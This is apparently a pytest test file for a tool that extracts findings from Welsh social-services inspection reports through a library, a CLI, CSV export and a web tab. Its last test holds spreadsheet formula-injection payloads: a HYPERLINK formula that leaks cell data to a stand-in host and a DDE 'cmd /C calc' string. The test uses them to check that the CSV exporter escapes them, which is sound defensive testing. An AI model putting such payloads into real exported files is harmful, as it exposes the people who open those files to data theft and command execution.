"""The findings explorer (issue 12 item 6): rag.findings, `arolwg findings`, the chat's Findings tab.

All on the real index of the two bundled reports (the session fixture ``built_index``).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from conftest import CARDIFF, REPO, WREXHAM

LEADERSHIP = (
    "Strong and confident leadership from leaders and senior managers who demonstrate an accurate "
    "understanding of their services and areas requiring improvement."
)
SAFEGUARDING = (
    "Good use of safeguarding process to engage people in meaningful conversations about their safety and well-being."
)
ADVOCACY_MUST = (
    "The local authority must ensure consistent consideration is given to both informal and formal advocacy "
    "as outlined in Part 10 Code of Practice for 2014 Act."
)


@pytest.fixture(scope="module")
def all_findings(built_index, settings):
    from rag.findings import findings

    return findings(built_index, settings=settings)


def test_every_quote_is_the_report_text_at_its_span(all_findings, store):
    assert len(all_findings) > 50
    for f in all_findings:
        assert f.quote == store.source_text(f.report_id)[f.start : f.end]
        assert f.text == " ".join(f.quote.split())
        assert f.citation is not None and f.citation.quote == f.quote and f.citation.source == f.report_id
        assert f.kind in ("strength", "needs to improve", "must", "should")
        assert f.service in ("children", "adults", "")


def test_wrexham_findings_from_its_headings(all_findings):
    from rag.findings import Finding

    wrexham = [f for f in all_findings if f.report_id == WREXHAM]
    assert {f.kind for f in wrexham} == {"strength", "needs to improve"}
    assert {f.service for f in wrexham} == {"children", "adults"}
    lead = next(f for f in wrexham if f.text == LEADERSHIP)
    assert isinstance(lead, Finding)
    assert (lead.council, lead.dates, lead.year, lead.service, lead.theme, lead.kind) == (
        "Wrexham County Borough Council", "12-23 October 2020", 2020, "children", "People - voice and choice", "strength",
    )
    assert lead.section == ("Children's Social Services: Risk Based Inspection", "People - voice and choice", "Strengths")
    safe = next(f for f in wrexham if f.text == SAFEGUARDING)
    assert (safe.service, safe.theme, safe.kind) == ("adults", "Well-being", "strength")
    assert [f.start for f in wrexham] == sorted(f.start for f in wrexham)  # report order


def test_outline_and_findings_share_the_finding_sentences(all_findings, store):
    from rag.outline import KINDS, from_headings

    strengths = from_headings(store, WREXHAM, KINDS[0])
    rows = {(store.gen.sentences[it.row].start, store.gen.sentences[it.row].end) for it in strengths}
    assert rows == {(f.start, f.end) for f in all_findings if f.report_id == WREXHAM and f.kind == "strength"}


def test_cardiff_must_and_should_sentences(all_findings):
    cardiff = [f for f in all_findings if f.report_id == CARDIFF]
    assert cardiff and {f.kind for f in cardiff} == {"must", "should"}
    for f in cardiff:
        assert (" must " in f" {f.text.lower()} ") == (f.kind == "must")
        assert " should " in f" {f.text.lower()} " or f.kind == "must"
    adv = next(f for f in cardiff if f.text == ADVOCACY_MUST)
    assert (adv.council, adv.theme, adv.kind, adv.year) == ("Cardiff Council", "People - voice and control", "must", 2020)


def test_filters(built_index, settings, all_findings):
    from rag.errors import InvalidArgumentError
    from rag.findings import findings

    def f(**kw):
        return findings(built_index, settings=settings, **kw)

    assert {x.report_id for x in f(council="Wrexham")} == {WREXHAM}
    assert f(council="Wrexham County Borough Council") == f(council="wrexham")
    assert {x.report_id for x in f(council="Cardiff")} == {CARDIFF}
    assert f(council="Powys") == []
    assert f(year=2020) == all_findings and f(year="2020") == all_findings and f(year=2016) == []
    kids = f(service="children")
    assert kids and {x.service for x in kids} == {"children"} and f(service="child's") == kids
    assert {x.service for x in f(service="adults")} == {"adults"}
    wb = f(council="Wrexham", theme="wellbeing")
    assert wb and {x.theme for x in wb} == {"Well-being"} and f(council="Wrexham", theme="Well-being") == wb
    assert {x.theme for x in f(theme="voice")} == {"People - voice and choice", "People voice and choice", "People - voice and control"}
    adv = f(word="advocacy")
    assert adv and all("advocacy" in x.text.lower() for x in adv)
    assert ADVOCACY_MUST in {x.text for x in adv} and LEADERSHIP not in {x.text for x in adv}
    assert f(word="ADVOCACY") == adv
    assert [x.text for x in f(council="Wrexham", service="adults", theme="well-being", word="safeguarding")] == [SAFEGUARDING]
    assert {x.kind for x in f(kind="must")} == {"must"}
    with pytest.raises(InvalidArgumentError, match="children"):
        f(service="elderly")
    with pytest.raises(InvalidArgumentError, match="year"):
        f(year="last")


def test_csv_parses_back(all_findings, tmp_path):
    from rag.findings import CSV_COLUMNS, to_csv

    buf = io.StringIO()
    to_csv(all_findings, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(all_findings)
    lead = next(r for r in rows if r["finding"] == LEADERSHIP)
    assert lead["council"] == "Wrexham County Borough Council" and lead["kind"] == "strength"
    assert lead["service"] == "children" and lead["theme"] == "People - voice and choice" and lead["year"] == "2020"
    src = (REPO / "index" / "reports" / WREXHAM).read_text(encoding="utf-8")
    # The bundled text is the source text of a .txt report.
    assert src[int(lead["start"]) : int(lead["end"])] == lead["quote"]
    path = tmp_path / "f.csv"
    to_csv(all_findings[:3], path)
    assert len(list(csv.DictReader(path.open(encoding="utf-8")))) == 3


def _cli(*args, index):
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1", "ANONYMIZED_TELEMETRY": "False", "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "rag.cli", "findings", *args, "--index", str(index)],
        capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
    )


def test_cli(built_index):
    out = _cli("--council", "Wrexham", "--theme", "well-being", "--service", "adults", "--csv", index=built_index)
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert rows and {r["theme"] for r in rows} == {"Well-being"} and {r["service"] for r in rows} == {"adults"}
    assert SAFEGUARDING in {r["finding"] for r in rows}
    table = _cli("--council", "Cardiff", "--word", "advocacy", index=built_index)
    assert table.returncode == 0, table.stderr
    assert "Cardiff" in table.stdout and "must" in table.stdout and "advocacy" in table.stdout
    assert "Wrexham" not in table.stdout
    bad = _cli("--year", "soon", index=built_index)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr and "year" in bad.stderr
    none = _cli("--council", "Atlantis", index=built_index)
    assert none.returncode == 2 and len(none.stderr.strip().splitlines()) == 1 and "Atlantis" in none.stderr
    missing = _cli(index=built_index.parent / "no-such-index")
    assert missing.returncode == 2 and "Traceback" not in missing.stderr


# ---------------------------------------------------------------- the web chat's Findings tab


@pytest.fixture(scope="module")
def engine(built_index, embeddings, settings):
    from ui.handlers import Engine

    return Engine(settings, index_dir=built_index, embeddings=embeddings)


def test_findings_tab_handlers(engine, all_findings):
    from ui import handlers as H

    view = H.show_findings(engine, "Wrexham County Borough Council", "2020", "adults", "well-being", "")
    assert view.findings and {f.service for f in view.findings} == {"adults"}
    assert all(f.report_id == WREXHAM and f.theme == "Well-being" for f in view.findings)
    assert len(view.table) == len(view.findings) and all(len(r) == len(H.FINDINGS_HEADERS) for r in view.table)
    row = next(r for r in view.table if r[-1] == SAFEGUARDING)
    assert row[1:6] == ["Wrexham", "2020-10-12", "adults", "Well-being", "strength"]
    assert "finding" in view.message and "1 report" in view.message
    # The CSV download holds exactly the rows shown.
    with open(view.csv_path, encoding="utf-8", newline="") as fh:
        assert [r["finding"] for r in csv.DictReader(fh)] == [r[-1] for r in view.table]
    # Selecting a row (by its "#", whatever the sort) shows the finding as a source card, its sentence marked.
    card = H.finding_card(engine, view.findings, row[0])
    assert f"<mark>{SAFEGUARDING}</mark>" in card and "Strengths" in card and WREXHAM in card
    assert H.finding_card(engine, view.findings, 999) == "" and H.finding_card(engine, view.findings, None) == ""
    # Every filter, and the messages for nothing found and a bad value.
    everything = H.show_findings(engine)
    assert [f.text for f in everything.findings] == [f.text for f in all_findings]
    assert H.show_findings(engine, word="advocacy").findings and all(
        "advocacy" in f.text.lower() for f in H.show_findings(engine, word="advocacy").findings
    )
    assert {f.report_id for f in H.show_findings(engine, council="Cardiff Council").findings} == {CARDIFF}
    nothing = H.show_findings(engine, year="2016")
    assert nothing.findings == () and nothing.csv_path is None and nothing.message == "No findings match these filters."
    assert "year" in H.show_findings(engine, year="soon").message
    assert H.year_choices(engine.reports()) == [("Any year", ""), ("2020", "2020")]


def test_findings_tab_without_an_index(tmp_path, settings, embeddings):
    from ui import handlers as H

    empty = H.Engine(settings, index_dir=tmp_path / "none", embeddings=embeddings)
    view = H.show_findings(empty)
    assert view.findings == () and "No reports are indexed yet" in view.message


@pytest.mark.slow
def test_findings_tab_over_http(built_index, embeddings):
    """A live server's findings API: each session gets its own rows, and the CSV downloads."""
    import urllib.request

    from test_ui_live import client, start_server

    demo, url = start_server(built_index, embeddings)
    try:
        c = client(url)
        out = c.predict("Cardiff", "", "", "", "advocacy", api_name="/findings")
        status, table, download = out[:3]  # the session's state is not sent to the client
        assert "1 finding from 1 report" in status
        table = table.get("value", table)
        assert [r[-1] for r in table["data"]] == [ADVOCACY_MUST] and table["headers"][0] == "#"
        download = download.get("value", download)
        file_url = download["url"]
        with urllib.request.urlopen(file_url, timeout=30) as r:
            rows = list(csv.DictReader(io.StringIO(r.read().decode("utf-8"))))
        assert [x["finding"] for x in rows] == [ADVOCACY_MUST] and rows[0]["kind"] == "must"
    finally:
        demo.close()


@pytest.mark.slow
def test_findings_tab_in_the_browser(built_index, embeddings):
    """Headless Chromium: the tab fills on opening, a row selected after sorting shows its own finding's card."""
    from test_ui_live import ARTIFACTS, open_browser, start_server

    demo, url = start_server(built_index, embeddings)
    try:
        with open_browser(url) as page:
            page.get_by_role("tab", name="Findings").click()
            page.wait_for_function(
                "document.querySelector('#arolwg-f-status') && document.querySelector('#arolwg-f-status').textContent.includes('76 findings')",
                timeout=60_000,
            )
            table = page.locator("#arolwg-f-table")
            table.get_by_text(ADVOCACY_MUST, exact=True).first.click()
            page.wait_for_selector("#arolwg-f-card mark", timeout=20_000)
            assert page.locator("#arolwg-f-card mark").inner_text() == ADVOCACY_MUST
            # Sort by council, newest name last: the rows move, and a selected row still shows its own finding.
            table.locator("[data-testid=header-1]").hover()
            table.locator("[data-testid=header-1] .cell-menu-button").click()
            page.get_by_text("Sort descending", exact=False).first.click()
            staffing = "Staffing levels must improve and become more stable."
            table.get_by_text(staffing, exact=True).first.click()
            page.wait_for_function(
                f"document.querySelector('#arolwg-f-card mark') && document.querySelector('#arolwg-f-card mark').textContent === {staffing!r}",
                timeout=20_000,
            )
            assert "Prevention" in page.locator("#arolwg-f-card").inner_text()
            page.screenshot(path=str(ARTIFACTS / "ui-findings.png"), full_page=True)
            assert page.errors == [] and page.outside == []
    finally:
        demo.close()


def test_the_cli_table_quotes_bracketed_words_as_written(tmp_path, embeddings, settings):
    from index import build_index

    reports = tmp_path / "reports"
    reports.mkdir()
    (reports / "powys-2021.txt").write_text(
        "Inspection of Powys County Council social services\n\nIntroduction\n\nThis report sets out the findings of "
        "the assurance check of Powys County Council carried out from 1 to 5 March 2021.\n\nFindings\n\n"
        "The local authority must review its respite plans [see annex 2] every year.\n"
        "The local authority should publish each review [/draft] to the families it concerns.\n",
        encoding="utf-8",
    )
    build_index(reports, tmp_path / "index", settings=settings, embeddings=embeddings)
    table = _cli(index=tmp_path / "index")
    assert table.returncode == 0 and table.stderr == "", table.stderr
    assert "respite plans [see annex 2] every year" in table.stdout
    assert "publish each review [/draft] to the families" in table.stdout


def test_a_word_filter_starting_with_a_bracket_finds_its_findings(built_index, settings, all_findings):
    from rag.findings import findings

    held = [f for f in all_findings if "(IAA)" in f.text]
    assert held and findings(built_index, settings=settings, word="(IAA)") == held
    assert findings(built_index, settings=settings, word="IAA)") == held  # a word's start, whatever follows
    assert findings(built_index, settings=settings, word="AA)") == []  # not the middle of a word


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(all_findings):
    from dataclasses import replace

    from rag.findings import to_csv

    # Report text is anyone's PDF: a finding that begins like a formula must not run as one.
    plain = all_findings[0]
    evil = replace(plain, text='=HYPERLINK("http://x.example/?"&A1,"click")', quote="+1+cmd|' /C calc'!A0", theme="@SUM(1)")
    buf = io.StringIO()
    to_csv([plain, evil], buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert rows[0]["finding"] == plain.text and rows[0]["quote"] == plain.quote
    assert (rows[1]["finding"], rows[1]["quote"], rows[1]["theme"]) == (
        '\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+cmd\\|' /C calc'!A0", "'@SUM(1)"
    )
    # Numbers stay numbers.
    assert (rows[1]["start"], rows[1]["end"]) == (str(plain.start), str(plain.end))
